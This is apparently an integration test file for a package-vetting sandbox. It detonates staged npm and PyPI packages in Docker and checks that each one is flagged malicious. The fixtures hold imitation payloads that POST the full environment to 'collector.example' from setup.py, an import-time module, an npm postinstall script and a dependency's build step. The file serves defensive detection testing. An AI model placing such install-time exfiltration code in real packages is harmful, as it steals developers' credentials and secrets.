// #15: the sandbox is a developer's workstation, so payloads that need one reach their payload:
// Debian's python3-* libraries (requests, tkinter) importable during an sdist build and import,
// an app project whose node_modules holds the popular packages a script may require without
// declaring them, a PyPI dependency staged beside the package, and a real `npm install`.
// Imitation payloads only target `.example` names; each must come out malicious.
import { randomUUID } from 'node:crypto';
import { readFile, rm } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Report, StagedPackage } from '@vetbox/contracts';
import { inspectUpload, stage } from '@vetbox/fetch';
import { detonate as detonateStaged } from '@vetbox/pipeline';
import { DockerRuntime, LABEL_ANALYSIS, ensureSandboxImage } from '@vetbox/sandbox';
import { sdistFiles, wheelFiles, writeTarGz, writeZip } from '../../services/fetch/src/__fixtures__/archives.js';
import { startFakePypi, type FakePypi } from '../fixtures/fetch/fake-registries.js';
import { stageNpm, stagePypiSdist, tempDir } from '../fixtures/sandbox/stage.js';

const runtime = new DockerRuntime();
const limits = { graceMs: 1000, phaseTimeoutMs: 180_000 };
let image = '';
let pypi: FakePypi;
const used: string[] = [];
const cleanup: string[] = [];

beforeAll(async () => {
  image = await ensureSandboxImage(runtime, { build: true });
  pypi = await startFakePypi();
}, 900_000);

afterEach(async () => {
  for (const id of used.splice(0)) expect(await runtime.listByLabel(LABEL_ANALYSIS, id)).toEqual([]);
});

afterAll(async () => {
  await pypi?.close();
  await Promise.all(cleanup.map((dir) => rm(dir, { recursive: true, force: true })));
});

async function detonate(staged: StagedPackage): Promise<{ report: Report; text: string }> {
  cleanup.push(staged.dir);
  const analysisId = `test-workstation-${randomUUID()}`;
  used.push(analysisId);
  const { report } = await detonateStaged(staged, { analysisId, image, limits });
  const text = [
    `${staged.name}: ${report.verdict} ${report.score} — ${report.summary}`,
    ...report.phases.map((p) => `  ${p.name} ${p.status} ${p.reason ?? ''} ${p.stderrTail.slice(-400)}`),
    ...report.findings.map((f) => `  ${f.rule}(${f.severity}) ${f.title}`),
  ].join('\n');
  console.log(text);
  return { report, text };
}

/** The report's HTTP requests to `host` (what the sinkhole captured). */
const postsTo = (report: Report, host: string) => report.behavior.network.http.filter((h) => h.host === host && h.method === 'POST');

/** Python that POSTs the environment with `requests` (imported at the top by the caller). */
const PY_POST_ENV = "requests.post('http://collector.example/py', data=json.dumps(dict(os.environ)), timeout=5)\n";

describe('a developer workstation: payloads that need one reach it', () => {
  it('a setup.py importing requests at the top, then posting the environment (pip runs it with the system libraries)', async () => {
    const staged = await stagePypiSdist({
      name: 'req-setup',
      setupPy: `import os, json\nimport requests\n${PY_POST_ENV}from setuptools import setup\nsetup(name='req-setup', version='1.0.0', py_modules=['req_setup'])\n`,
      files: { 'req_setup.py': 'X = 1\n' },
      importNames: ['req_setup'],
    });
    const { report, text } = await detonate(staged);
    expect(postsTo(report, 'collector.example'), text).not.toHaveLength(0);
    expect(report.verdict, text).toBe('malicious');
    expect(report.sandbox?.persona, text).toMatchObject({ python: expect.stringMatching(/^3\.11/), os: expect.stringMatching(/Debian/), node: expect.stringMatching(/^20\./), npm: expect.any(String) });
  }, 600_000);

  it('a tkinter (and turtle) import, then exfiltration at import', async () => {
    const staged = await stagePypiSdist({
      name: 'tk-thief',
      setupPy: "from setuptools import setup\nsetup(name='tk-thief', version='1.0.0', py_modules=['tk_thief'])\n",
      files: { 'tk_thief.py': `import os, json, tkinter, turtle\nimport requests\n${PY_POST_ENV}` },
      importNames: ['tk_thief'],
    });
    const { report, text } = await detonate(staged);
    expect(postsTo(report, 'collector.example'), text).not.toHaveLength(0);
    expect(report.verdict, text).toBe('malicious');
  }, 600_000);

  it('a postinstall requiring a popular module it never declared (axios), then posting; npm_command is install', async () => {
    const staged = await stageNpm({
      name: 'undeclared-axios',
      scripts: { postinstall: 'node post.js' },
      files: {
        'post.js': "const axios = require('axios');\naxios.post('http://collector.example/n', { env: process.env, cmd: process.env.npm_command, ev: process.env.npm_lifecycle_event }).catch(() => {});\n",
        'index.js': 'module.exports = 1;\n',
      },
    });
    const { report, text } = await detonate(staged);
    const [post] = postsTo(report, 'collector.example');
    expect(post, text).toBeDefined();
    expect(post!.bodyPreview, text).toContain('"cmd":"install"');
    expect(post!.bodyPreview, text).toContain('"ev":"postinstall"');
    expect(report.verdict, text).toBe('malicious');
    // axios's own files are the project's, not the package's.
    expect(report.behavior.files.some((f) => f.path.includes('/node_modules/axios/')), text).toBe(false);
  }, 600_000);

  it('a PyPI package whose payload needs its declared dependency (staged from the index, installed by pip)', async () => {
    const work = await tempDir('ws-pypi-dep');
    cleanup.push(work);
    const wheelPath = path.join(work, 'beacon_helper.whl');
    // The dependency: a pure wheel providing the HTTP helper the payload calls.
    pypi.addRelease('beacon-helper', '2.1.0', [
      { filename: 'beacon_helper-2.1.0-py3-none-any.whl', content: await writeZip(wheelPath, wheelFiles('beacon_helper', '2.1.0', { 'beacon_helper/__init__.py': "import json, os, urllib.request\ndef send(url):\n    urllib.request.urlopen(urllib.request.Request(url, data=json.dumps(dict(os.environ)).encode(), method='POST'), timeout=5)\n" }, { topLevel: ['beacon_helper'] })).then(() => readFile(wheelPath)) },
    ]);
    const sdist = sdistFiles('needs-dep', '1.0.0', {
      'PKG-INFO': 'Metadata-Version: 2.1\nName: needs-dep\nVersion: 1.0.0\nRequires-Dist: beacon-helper>=2.0\n',
      'setup.py': "from setuptools import setup\nsetup(name='needs-dep', version='1.0.0', py_modules=['needs_dep'], install_requires=['beacon-helper>=2.0'])\n",
      'needs_dep.py': "import beacon_helper\nbeacon_helper.send('http://collector.example/dep')\n",
    });
    const archive = path.join(work, 'needs-dep-1.0.0.tar.gz');
    await writeTarGz(archive, sdist);
    const staged = await stage(await inspectUpload(archive), path.join(work, 'stage'), { pypiUrl: pypi.url });
    expect(staged.dependencies).toMatchObject({ archives: ['dist/beacon_helper-2.1.0-py3-none-any.whl'], complete: true });
    const { report, text } = await detonate(staged);
    expect(postsTo(report, 'collector.example'), text).not.toHaveLength(0);
    expect(report.verdict, text).toBe('malicious');
  }, 600_000);

  it('an sdist dependency is built in the sandbox and what its setup.py does is attributed to it, not to the package', async () => {
    const work = await tempDir('ws-sdist-dep');
    cleanup.push(work);
    const depArchive = path.join(work, 'noisy-dep-0.3.0.tar.gz');
    await writeTarGz(depArchive, sdistFiles('noisy-dep', '0.3.0', {
      'setup.py': `import os, json, urllib.request\nurllib.request.urlopen(urllib.request.Request('http://collector.example/dep', data=json.dumps(dict(os.environ)).encode(), method='POST'), timeout=5)\nfrom setuptools import setup\nsetup(name='noisy-dep', version='0.3.0', py_modules=['noisy_dep'])\n`,
      'noisy_dep.py': 'X = 1\n',
    }));
    pypi.addRelease('noisy-dep', '0.3.0', [{ filename: 'noisy-dep-0.3.0.tar.gz', content: await readFile(depArchive) }]);
    const archive = path.join(work, 'plain-app-1.0.0.tar.gz');
    await writeTarGz(archive, sdistFiles('plain-app', '1.0.0', {
      'PKG-INFO': 'Metadata-Version: 2.1\nName: plain-app\nVersion: 1.0.0\nRequires-Dist: noisy-dep\n',
      'setup.py': "from setuptools import setup\nsetup(name='plain-app', version='1.0.0', py_modules=['plain_app'], install_requires=['noisy-dep'])\n",
      'plain_app.py': 'Y = 2\n',
    }));
    const staged = await stage(await inspectUpload(archive), path.join(work, 'stage'), { pypiUrl: pypi.url });
    expect(staged.dependencies).toMatchObject({ archives: ['dist/noisy-dep-0.3.0.tar.gz'], complete: true });
    const { report, text } = await detonate(staged);
    expect(postsTo(report, 'collector.example'), text).not.toHaveLength(0);
    const builds = report.behavior.processes.filter((p) => p.dependency === 'noisy-dep');
    expect(builds.length, text).toBeGreaterThan(0);
    // Every finding about the POST names the dependency; none is the package's own.
    const network = report.findings.filter((f) => f.evidence.some((e) => e.summary.includes('collector.example')));
    expect(network.length, text).toBeGreaterThan(0);
    for (const f of network) expect(f.dependency, `${f.rule}\n${text}`).toBe('noisy-dep');
  }, 600_000);
});
